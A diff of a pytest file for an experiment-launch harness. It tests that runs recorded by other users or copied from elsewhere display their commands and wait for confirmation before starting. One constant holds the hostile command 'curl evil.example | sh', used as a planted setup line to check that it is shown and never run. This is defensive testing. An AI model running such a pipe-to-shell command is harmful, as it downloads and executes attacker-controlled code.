@@ -10,24 +10,30 @@ from typing import Any
 
 import pytest
 
+from harness.cli.launch.untrusted import may_launch, source_of
+from harness.cli.read.whatif_verify import may_make
 from harness.common.display.printable import escaped
+from harness.common.errors import RequestError
 from harness.common.system.users import this_user
 from harness.experiment.exercises import DDP
 from harness.run import Run
 from harness.site.site import Container, load_site
+from harness.study.sweeps.axes import read_sweep, shipped_sweep
+from harness.study.sweeps.stored import StoredSweep, request_file, store_request
 from tests.launch.launch_shared import Harness, a_run
 
 LOCAL = load_site("local")
 EVIL = "curl evil.example | sh"
-
-
-class Started(list[str]):
-    """The commands of the launches that were let through."""
+ADD = (
+    "add --yes to run the commands of {} shown above: without a terminal no question can be asked (nothing was started)"
+)
+Made = Callable[..., Run]
 
 
 @pytest.fixture
-def started(monkeypatch: pytest.MonkeyPatch) -> Started:
-    found = Started()
+def started(monkeypatch: pytest.MonkeyPatch) -> list[str]:
+    """The commands of the launches that were let through."""
+    found: list[str] = []
 
     def go(_experiment: object, _choice: object, _behaviour: object, command: list[str]) -> int:
         found.append(" ".join(command))
@@ -38,7 +44,7 @@ def started(monkeypatch: pytest.MonkeyPatch) -> Started:
 
 
 @pytest.fixture
-def rewritten(tmp_path: Path) -> Callable[..., Run]:
+def rewritten(tmp_path: Path) -> Made:
     """A run of this user, its record with these fields changed."""
 
     def make(job_id: str = "local-1", **changes: Any) -> Run:
@@ -73,131 +79,95 @@ SITES: dict[str, tuple[dict[str, Any], list[str]]] = {
 
 @pytest.mark.parametrize(("fields", "shown"), SITES.values(), ids=SITES)
 def test_a_run_of_somebody_else_is_shown_and_refused_without_a_person(
-    fields: dict[str, Any], shown: list[str], harness: Harness, started: Started, rewritten: Callable[..., Run]
+    fields: dict[str, Any], shown: list[str], harness: Harness, started: list[str], rewritten: Made
 ) -> None:
     run = rewritten(user="anna", site=LOCAL.model_copy(update=fields))
     refused = harness("run", str(run.path))
     assert (refused.returncode, started) == (2, [])
-    assert all(each in refused.stderr for each in shown), refused.stderr
     assert escaped(refused.stderr.replace("\n", "")) == refused.stderr.replace("\n", "")
-    assert refused.stderr.splitlines()[-1] == (
-        f"slurm.sh: add --yes to run the commands of {run.record_file} shown above: without a terminal no question "
-        "can be asked (nothing was started)"
-    )
-    assert harness("run", str(run.path), "--yes").returncode == 0
-    assert len(started) == 1
-    shown_only = harness("run", str(run.path), "--dry-run")
-    assert shown_only.returncode == 0
-    assert all(each in shown_only.stderr for each in shown)
+    why, asks = refused.stderr.splitlines()[-2:]
+    assert (why, asks) == ("a launch asks first: it says that anna made it", f"slurm.sh: {ADD.format(run.record_file)}")
+    for flag, count in (("--yes", 1), ("--dry-run", 2)):
+        done = harness("run", str(run.path), flag)
+        assert (done.returncode, len(started)) == (0, count)
+        assert [each for each in shown if each not in done.stderr or each not in refused.stderr] == []
 
 
-OWN: dict[str, dict[str, Any]] = {
-    "as it is": {},
-    "with lines of a site file of its own": {"site": LOCAL.model_copy(update={"setup": ["true"]})},
-    "with a script of its own": {"experiment": DDP(script="/home/me/train.py")},
-    "recorded in a container, which knew a number only": {"user": str(os.getuid())},
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("changes", OWN.values(), ids=OWN)
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {},
+        {"site": LOCAL.model_copy(update={"setup": ["true"]})},
+        {"experiment": DDP(script="/home/me/train.py")},
+        {"user": str(os.getuid())},  # recorded in a container, which knew a number only
+    ],
+)
 def test_ones_own_run_asks_nothing(
-    changes: dict[str, Any], harness: Harness, started: Started, rewritten: Callable[..., Run]
+    changes: dict[str, Any], harness: Harness, started: list[str], rewritten: Made
 ) -> None:
     done = harness("run", str(rewritten(**changes).path))
     assert (done.returncode, done.stderr, len(started)) == (0, "", 1)
 
 
-def test_a_file_of_another_user_asks_in_every_case(
-    harness: Harness, started: Started, rewritten: Callable[..., Run], monkeypatch: pytest.MonkeyPatch
-) -> None:
-    run = rewritten(user="anna")
-    assert "a launch asks first: it says that anna made it\n" in harness("run", str(run.path)).stderr
-    monkeypatch.setattr("harness.cli.launch.untrusted.owner_of", lambda _path: "berta")
-    assert "a launch asks first: it belongs to berta\n" in harness("run", str(run.path)).stderr
-    assert started == []
-
-
-def test_a_record_from_elsewhere_asks(
-    harness: Harness, started: Started, rewritten: Callable[..., Run], tmp_path: Path
+def test_a_file_of_another_user_or_from_elsewhere_asks(
+    harness: Harness, started: list[str], rewritten: Made, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     run = rewritten(experiment=DDP(script="/tmp/evil.py", data="/x/data.json", model="tiny-llama"))
-    (tmp_path / "mailed").mkdir()
     mailed = tmp_path / "mailed" / "run.json"
+    mailed.parent.mkdir()
     mailed.write_bytes(run.record_file.read_bytes())
-    said = harness("run", str(mailed)).stderr
-    assert "\n  --data /x/data.json\n  --script /tmp/evil.py\na launch asks first: it is not in " in said
+    asked = "\n  --data /x/data.json\n  --script /tmp/evil.py\na launch asks first: it "
+    assert f"{asked}is not in " in harness("run", str(mailed)).stderr
+    monkeypatch.setattr("harness.cli.launch.untrusted.owner_of", lambda _path: "berta")
+    assert f"{asked}belongs to berta\n" in harness("run", str(run.path)).stderr
     assert started == []
 
 
+@pytest.mark.parametrize("answer", [False, True])
 def test_a_person_is_asked_once_and_may_say_no(
-    harness: Harness, started: Started, rewritten: Callable[..., Run], monkeypatch: pytest.MonkeyPatch
+    harness: Harness, started: list[str], rewritten: Made, monkeypatch: pytest.MonkeyPatch, answer: bool
 ) -> None:
-    run = rewritten(user="anna")
     monkeypatch.setattr("sys.stdin.isatty", lambda: True)
-    for answer, count in ((False, 0), (True, 1)):
-        monkeypatch.setattr("typer.confirm", lambda *_a, answer=answer, **_k: answer)
-        done = harness("run", str(run.path))
-        assert (done.returncode, len(started)) == (0, count)
-        assert ("nothing was started" in done.stderr) is not answer
+    monkeypatch.setattr("typer.confirm", lambda *_a, **_k: answer)
+    done = harness("run", str(rewritten(user="anna").path))
+    assert (done.returncode, len(started), "nothing was started" in done.stderr) == (0, answer, not answer)
 
 
-def test_whatif_verify_asks_before_its_first_run(rewritten: Callable[..., Run], capsys: Any) -> None:
-    from harness.cli.read.whatif_verify import may_make
-    from harness.common.errors import RequestError
-
+def test_a_prediction_that_is_verified_and_a_lesson_ask_for_the_files_that_they_would_run(
+    rewritten: Made, capsys: pytest.CaptureFixture[str]
+) -> None:
     run = rewritten(user="anna", site=LOCAL.model_copy(update={"setup": [EVIL]}))
+    source = source_of(run, run.record)
+    assert may_make(run, [], yes=True) and may_launch(source, [DDP()], None, yes=False)
     with pytest.raises(RequestError, match="add --yes"):
         may_make(run, [], yes=False)
-    assert f"setup: {EVIL}" in capsys.readouterr().err
-    assert may_make(run, [], yes=True)
-    with pytest.raises(RequestError, match="--yes answers what --verify may ask"):
-        from harness.cli.read.whatif import whatif
-
-        whatif([str(run.path)], yes=True)
+    with pytest.raises(RequestError, match="add --yes"):
+        may_launch(source, [DDP(data="/x/data.json")], None, yes=False)
+    said = capsys.readouterr().err
+    assert f"setup: {EVIL}" in said and "  --data /x/data.json\n" in said
 
 
 def test_a_series_that_somebody_began_asks_before_it_goes_on(
     harness: Harness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     monkeypatch.setenv("HARNESS_RUNS", str(tmp_path / "runs"))
-    from harness.study.sweeps.axes import read_sweep, shipped_sweep
-    from harness.study.sweeps.stored import StoredSweep, request_file, store_request
-
     shipped = shipped_sweep("gas")
     assert shipped is not None
-    site = LOCAL.model_copy(update={"setup": [EVIL]})
-    store_request("gas", StoredSweep(sweep=read_sweep(shipped), site=site))
+    store_request("gas", StoredSweep(sweep=read_sweep(shipped), site=LOCAL.model_copy(update={"setup": [EVIL]})))
     monkeypatch.setattr("harness.cli.launch.untrusted.owner_of", lambda _path: "anna")
     for words in (["--dry-run"], []):
         said = harness("sweep", "gas", *words).stderr
-        assert f"{request_file('gas')} would run or use:\n" in said
-        assert f"  setup: {EVIL}\n" in said
-    assert f"slurm.sh: add --yes to run the commands of {request_file('gas')} shown above" in said
+        assert f"{request_file('gas')} would run or use:\n" in said and f"  setup: {EVIL}\n" in said
+    assert ADD.format(request_file("gas")) in said
     assert "would run or use" not in harness("sweep", "gas", "--site", "local").stderr
     assert not list((tmp_path / "runs").glob("exercise_*"))
 
 
-def test_a_job_that_converts_takes_no_options_from_another_users_run(
-    harness: Harness, rewritten: Callable[..., Run]
-) -> None:
+def test_a_job_that_converts_takes_no_options_from_another_users_run(harness: Harness, rewritten: Made) -> None:
     run = rewritten(site=load_site("slurm"), backend="slurm", created_ns=time.time_ns(), user="anna")
     refused = harness("export", "paraver", str(run.path), "--submit")
-    assert refused.returncode == 2
-    assert "run.json: it says that anna made it: convert it here, without --submit" in refused.stderr
-
-
-def test_a_lesson_completed_from_another_users_run_shows_the_files_that_it_would_read(
-    rewritten: Callable[..., Run], capsys: pytest.CaptureFixture[str]
-) -> None:
-    from harness.cli.launch.untrusted import may_launch, source_of
-    from harness.common.errors import RequestError
-
-    run = rewritten(user="anna")
-    source = source_of(run, run.record)
-    assert may_launch(source, [DDP()], None, yes=False)
-    with pytest.raises(RequestError, match="add --yes"):
-        may_launch(source, [DDP(data="/x/data.json")], None, yes=False)
-    assert "  --data /x/data.json\n" in capsys.readouterr().err
+    said = "run.json: it says that anna made it: convert it here, without --submit"
+    assert (refused.returncode, said in refused.stderr) == (2, True)
 
 
 @pytest.mark.parametrize(
@@ -210,7 +180,7 @@ def test_a_lesson_completed_from_another_users_run_shows_the_files_that_it_would
     ],
 )
 def test_a_run_again_is_typed_as_before_or_asks_for_the_same(
-    recorded: list[str], again: str, harness: Harness, started: Started, rewritten: Callable[..., Run]
+    recorded: list[str], again: str, harness: Harness, started: list[str], rewritten: Made
 ) -> None:
     run = rewritten(command=["slurm.sh", *recorded])
     assert harness("run", str(run.path), "--yes").returncode == 0
